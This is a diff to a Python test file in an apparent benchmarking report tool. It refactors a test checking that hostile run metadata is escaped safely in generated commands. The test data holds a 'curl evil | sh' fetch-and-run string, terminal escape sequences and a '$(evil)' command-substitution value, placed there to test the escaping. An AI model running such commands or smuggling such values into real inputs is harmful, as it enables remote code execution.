@@ -11,7 +11,6 @@ from pydantic import ValidationError
 from bench.records.environment import Checkout
 from bench.records.results import Results
 from bench.records.run import Reason
-from bench.report.charts.base import Catalogue
 from bench.report.charts.catalogue import catalogue
 from bench.report.page import export, origin
 from bench.report.page.page import render
@@ -146,13 +145,12 @@ def test_a_hostile_command_stays_on_its_line() -> None:
     results.runs[0].subject = "epoll\ncurl evil | sh\x1b[2K\u2028\r"
     results.runs[0].ab_command = ["ab", "-n\x1b[201~\nevil"]
     study = Study(results)
-    shown = origin.how_made(study, Catalogue(study, {}))
-    (said,) = shown["commands"]  # type: ignore[misc]
+    (said,) = origin.commands(study)
     comment, line = said.split("\n")
     assert comment.startswith("# epoll curl evil | sh")
     assert line.startswith("ab '")
     assert (comment + line).isprintable()
-    assert shown["command"] == ".venv/bin/zerohttpd sweep 'a b' '$(evil)'"
+    assert origin.command(study) == ".venv/bin/zerohttpd sweep 'a b' '$(evil)'"
 
 
 @pytest.mark.parametrize(
